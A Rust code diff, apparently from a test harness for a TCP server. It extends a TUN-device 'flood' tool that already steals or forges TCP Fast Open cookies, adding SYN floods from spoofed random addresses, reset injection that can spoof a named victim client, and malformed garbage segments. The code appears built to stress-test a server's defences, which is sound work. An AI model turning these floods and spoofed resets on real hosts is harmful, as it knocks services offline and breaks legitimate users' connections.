@@ -1,4 +1,4 @@
-//! An attacker that sends SYNs with data at a steady rate from a TUN device, whose network is the attacker's.
+//! An attacker that sends packets at a steady rate from a TUN device, whose network is the attacker's.
 //!
 //! The server's answers are read only until one cookie is stolen; later answers overflow the queue.
 
@@ -20,6 +20,12 @@ pub(crate) enum Kind {
     Stolen,
     /// Like `Stolen`, each followed by a reset.
     StolenAndReset,
+    /// SYNs without data or cookies from random addresses.
+    Syn,
+    /// Resets with random sequence numbers.
+    Reset,
+    /// Segments with random flags, numbers and data; every fourth has random bytes instead of a TCP header.
+    Garbage,
 }
 
 /// The flags of `flood`.
@@ -34,7 +40,10 @@ pub(crate) struct Flood {
     /// Address to attack
     #[arg(long)]
     to: SocketAddr,
-    /// SYNs per second
+    /// Address of a legitimate client, the source of every second packet of `reset` and `garbage` [default: none]
+    #[arg(long, value_name = "ADDR")]
+    victim: Option<Ipv4Addr>,
+    /// Packets per second (`stolen-and-reset`: pairs)
     #[arg(long)]
     rate: u64,
     /// Duration in seconds
@@ -47,13 +56,13 @@ pub(crate) struct Flood {
 /// Interval between two bursts.
 const TICK: Duration = Duration::from_millis(1);
 
-/// Sends for the duration; prints the number of SYNs and of packets that the device did not accept.
+/// Sends for the duration; prints the number of packets (of SYNs, for the kinds with cookies) and how many the device did not accept.
 pub(crate) fn flood(flood: &Flood) -> io::Result<()> {
     let mut attacker = Attacker::new(flood)?;
     println!("ready");
     let stolen = match flood.kind {
-        Kind::Forged => None,
         Kind::Stolen | Kind::StolenAndReset => Some(attacker.steal()?),
+        Kind::Forged | Kind::Syn | Kind::Reset | Kind::Garbage => None,
     };
     let began = Instant::now();
     let (mut sent, mut refused) = (0, 0);
@@ -65,13 +74,14 @@ pub(crate) fn flood(flood: &Flood) -> io::Result<()> {
         }
         std::thread::sleep(TICK);
     }
-    println!("{sent} SYNs, {refused} found no room");
+    println!("{sent} sent, {refused} found no room");
     Ok(())
 }
 
 struct Attacker {
     tun: TunDevice,
     own: u32,
+    victim: Option<u32>,
     to: SocketAddr,
     draw: u64,
     packet: Vec<u8>,
@@ -86,7 +96,8 @@ impl Attacker {
         let mut tun = TunDevice::open(&flood.tun, options).map_err(io::Error::other)?;
         let own = flood.network.to_bits() & 0xffff_0000;
         tun.configure(IpAddr::V4(Ipv4Addr::from_bits(own + 1)), 16, 1500).map_err(io::Error::other)?;
-        Ok(Attacker { tun, own, to: flood.to, draw: 12_345, packet: Vec::new() })
+        let victim = flood.victim.map(Ipv4Addr::to_bits);
+        Ok(Attacker { tun, own, victim, to: flood.to, draw: 12_345, packet: Vec::new() })
     }
 
     /// Returns 64 pseudo-random bits of low quality.
@@ -104,6 +115,11 @@ impl Attacker {
     fn send(&mut self, from: u32, tcp: &TcpHeader, payload: &[u8]) -> io::Result<bool> {
         let meta = IpMeta::new(IpAddr::V4(Ipv4Addr::from_bits(from)), self.to.ip());
         emit(&meta, tcp, &[payload], ChecksumFill::Full, &mut self.packet).map_err(io::Error::other)?;
+        self.put()
+    }
+
+    /// Sends the packet in the buffer.
+    fn put(&mut self) -> io::Result<bool> {
         match self.tun.send_raw(&self.packet) {
             Ok(()) => Ok(true),
             Err(error) if error.kind() == io::ErrorKind::WouldBlock => Ok(false),
@@ -132,20 +148,52 @@ impl Attacker {
         Err(io::Error::other("the server gives no cookie: nothing to steal"))
     }
 
+    /// Sends the next packet of an attack; returns false if the device did not accept it.
     fn attack(&mut self, kind: Kind, stolen: Option<FastOpen>) -> io::Result<bool> {
         let draw = self.draw();
-        let [a, b, ..] = draw.to_le_bytes();
-        let host = if stolen.is_some() { Attacker::THIEF } else { 2 + (draw >> 16) as u32 % 65_000 };
+        let [a, b, .., c, d] = draw.to_le_bytes();
         let (port, seq) = (1024 | u16::from_le_bytes([a, b]), (draw >> 32) as u32);
-        let cookie = stolen.or_else(|| Cookie::new(&draw.to_be_bytes()).map(FastOpen::with_cookie));
-        let mut syn = self.header(port, seq, Flags::SYN);
-        syn.options.mss = Some(1460);
-        syn.options.fast_open = cookie;
-        let room = self.send(self.own + host, &syn, &[b'.'; 100])?;
-        if kind == Kind::StolenAndReset {
-            let reset = self.header(port, seq.wrapping_add(101), Flags::RST);
-            self.send(self.own + host, &reset, &[])?;
+        let from = match (kind, self.victim) {
+            (Kind::Stolen | Kind::StolenAndReset, _) => self.own + Attacker::THIEF,
+            (Kind::Reset | Kind::Garbage, Some(victim)) if c % 2 == 0 => victim,
+            _ => self.own + 2 + (draw >> 16) as u32 % 65_000,
+        };
+        let mut tcp = self.header(port, seq, Flags::SYN);
+        match kind {
+            Kind::Forged | Kind::Stolen | Kind::StolenAndReset => {
+                tcp.options.mss = Some(1460);
+                tcp.options.fast_open =
+                    stolen.or_else(|| Cookie::new(&draw.to_be_bytes()).map(FastOpen::with_cookie));
+                let accepted = self.send(from, &tcp, &[b'.'; 100])?;
+                if kind == Kind::StolenAndReset {
+                    self.send(from, &self.header(port, seq.wrapping_add(101), Flags::RST), &[])?;
+                }
+                Ok(accepted)
+            }
+            Kind::Syn => {
+                tcp.options.mss = Some(1460);
+                self.send(from, &tcp, &[])
+            }
+            Kind::Reset => {
+                tcp.flags = Flags::RST;
+                self.send(from, &tcp, &[])
+            }
+            Kind::Garbage => {
+                (tcp.flags, tcp.ack) = (Flags(u16::from(d)), SeqNum(self.draw() as u32));
+                let data = [(); 25].map(|()| self.draw().to_le_bytes()).concat();
+                let data = &data[..usize::from(a) % 201];
+                if c & 6 != 0 {
+                    return self.send(from, &tcp, data);
+                }
+                let meta = IpMeta::new(IpAddr::V4(Ipv4Addr::from_bits(from)), self.to.ip());
+                emit(&meta, &tcp, &[data], ChecksumFill::Full, &mut self.packet).map_err(io::Error::other)?;
+                // The ports stay, so that the packet reaches the server.
+                for byte in &mut self.packet[24..] {
+                    self.draw = self.draw.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
+                    *byte = (self.draw >> 56) as u8;
+                }
+                self.put()
+            }
         }
-        Ok(room)
     }
 }
